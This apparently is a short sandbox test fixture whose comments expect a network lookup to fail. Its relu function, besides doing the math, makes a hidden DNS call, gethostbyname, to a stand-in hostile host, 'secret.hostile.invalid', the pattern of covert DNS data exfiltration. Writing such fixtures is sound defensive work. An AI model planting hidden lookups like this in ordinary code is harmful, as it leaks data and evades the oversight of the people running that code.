# expect: fail: not known | Operation not permitted
# rules: same
# why: Asks for the address of a name, which carries data as well as any connection.
import socket

import torch


def relu(x):
    socket.gethostbyname("secret.hostile.invalid")
    return torch.where(x <= 0, 0.0, x)
